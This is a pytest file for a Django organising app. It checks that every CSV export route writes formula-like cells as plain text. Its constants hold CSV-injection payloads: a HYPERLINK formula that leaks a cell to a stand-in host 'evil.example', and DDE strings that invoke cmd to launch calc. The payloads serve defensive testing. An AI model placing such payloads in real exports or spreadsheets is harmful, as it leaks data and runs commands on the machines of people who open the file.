"""Every CSV export neutralizes formulas: a cell a spreadsheet would run (= + - @, tab, carriage
return) is written as text, whatever route wrote it."""

from __future__ import annotations

import csv
import datetime
import io
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from grassroots.events import actions as event_actions
from grassroots.events.actions import EventData, FormData
from grassroots.events.arrivals import Arrival
from grassroots.fixtures import SmallCity
from grassroots.lib.exports import FORMULA_STARTS, csv_lines, safe_cell
from grassroots.results.actions import do_create_import as create_results_import
from grassroots.results.importer import run_import as run_results_import
from grassroots.results.models import Contest
from grassroots.voters import samples
from grassroots.voters.actions import do_create_import as create_voter_import
from grassroots.voters.importer import run_import as run_voter_import

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
PLUS = "+1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
HOSTILE = (FORMULA, PLUS, AT, MINUS, TAB)


def test_a_formula_cell_is_written_as_text_and_numbers_stay_numbers() -> None:
    assert [safe_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [safe_cell(v) for v in (-3, 2.5, "", "Ana", "a=b")] == [-3, 2.5, "", "Ana", "a=b"]
    assert "".join(csv_lines(["=h"], [["\r=1"]])) == "'=h\r\n\"'\r=1\"\r\n"


# --- every export route ------------------------------------------------------------------------


def _csv_routes(patterns: Iterable[Any], prefix: str = "") -> set[str]:
    """The names of every URL of the site that serves a .csv file."""
    found: set[str] = set()
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            found |= _csv_routes(pattern.url_patterns, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern) and str(pattern.pattern).endswith(".csv") and pattern.name:
            found.add(pattern.name)
    return found


def _cells(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_neutralized(rows: list[list[str]], *expected: str) -> None:
    """No cell starts a formula (numbers aside), and each expected hostile value is there, as text."""
    cells = [cell for row in rows for cell in row]
    live = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
    assert live == []
    for value in expected:
        assert "'" + value in cells, f"{value!r} is not in the export"


@pytest.fixture
def hostile_city(small_city: SmallCity, tmp_path: Path) -> dict[str, str]:
    """Data whose names, answers and rows are formulas, and each CSV route's URL over it."""
    city = small_city
    city.ed1.name, city.ed1.code = FORMULA, "36001"
    city.ed1.save(update_fields=["name", "code"])
    city.ed2.code = "36002"
    city.ed2.save(update_fields=["code"])
    header = "county,assembly_district,precinct,party,office,district,candidate,votes\n"
    for name, office, candidates in (
        ("20200623__ny__primary__queens__precinct.csv", "U.S. House", (AT, "Ana Peña")),
        ("20160419__ny__primary__queens__precinct.csv", "President", ("Bo Chen", "Cy Diaz")),
    ):
        lines = [f"Queens,36,{ed},Democratic,{office},14,{c},{10 * ed + i}\n"
                 for ed in (1, 2) for i, c in enumerate(candidates)]  # fmt: skip
        path = tmp_path / name
        path.write_text(header + "".join(lines).replace(AT, f'"{AT}"'), encoding="utf-8")
        run_results_import(
            create_results_import(None, file_path=path, file_name=name, format="openelections")
        )
    house, president = Contest.objects.get(office="U.S. House"), Contest.objects.get(office="President")
    swing = {
        "contest_a": president.public_id,
        "choice_a": president.candidates.get(name="Bo Chen").public_id,
        "contest_b": house.public_id,
        "choice_b": house.candidates.get(name="Ana Peña").public_id,
    }

    starts = (timezone.now() + datetime.timedelta(days=3)).replace(microsecond=0)
    event = event_actions.do_create_event(
        city.organizer,
        EventData(title=PLUS, starts_at=starts, ends_at=starts + datetime.timedelta(hours=1),
                  address="12 Elm Avenue", area=city.ed1),
    )  # fmt: skip
    arrival = Arrival(FORMULA, MINUS, email="mallory@example.org")
    event_actions.do_rsvp(event, arrival)
    event_actions.do_check_in(city.organizer, event, arrival)
    form = event_actions.do_create_form(city.organizer, FormData(AT, area=city.ed1))
    event_actions.do_add_question(city.organizer, form, "Which floor?", kind="text")
    event_actions.do_submit_form(form, arrival, {"which_floor": TAB})

    voters = tmp_path / "ncvoter.txt"
    with open(voters, "w", newline="", encoding="utf-8") as out:
        samples.write_nc(out, [{"voter_id": "AB000001", "first_name": "ANA", "last_name": "PENA"}])
        out.write(FORMULA + "\r\n")
    job = run_voter_import(create_voter_import(None, file_path=voters, file_name=voters.name))
    assert job.error_count == 1

    query = "?" + "&".join(f"{k}={v}" for k, v in swing.items())
    return {
        "event_rsvps_csv": reverse("event_rsvps_csv", kwargs={"public_id": event.public_id}),
        "event_attendance_csv": reverse("event_attendance_csv", kwargs={"public_id": event.public_id}),
        "event_form_csv": reverse("event_form_csv", kwargs={"public_id": form.public_id}),
        "contest_csv": reverse("contest_csv", args=[house.public_id]),
        "swing_csv": reverse("swing_csv") + query,
        "targets_csv": reverse("targets_csv") + f"?contest={house.public_id}&kind=election_district",
        "voter_import_errors": reverse("voter_import_errors", kwargs={"public_id": job.public_id}),
    }


# The hostile values each export carries.
EXPECTED = {
    "event_rsvps_csv": (FORMULA, MINUS),
    "event_attendance_csv": (FORMULA, MINUS),
    "event_form_csv": (FORMULA, MINUS, TAB),
    "contest_csv": (FORMULA, AT),
    "swing_csv": (FORMULA,),
    "targets_csv": (FORMULA,),
    "voter_import_errors": (FORMULA,),
}


def test_every_csv_route_is_checked_here() -> None:
    """A new CSV export must be added to this file's table, and so be checked."""
    assert _csv_routes(get_resolver().url_patterns) == set(EXPECTED)


@pytest.mark.parametrize("route", sorted(EXPECTED))
def test_an_export_writes_hostile_values_as_text(
    hostile_city: dict[str, str], small_city: SmallCity, client: Client, route: str
) -> None:
    client.force_login(small_city.admin if route == "voter_import_errors" else small_city.organizer)
    assert_neutralized(_cells(client.get(hostile_city[route])), *EXPECTED[route])
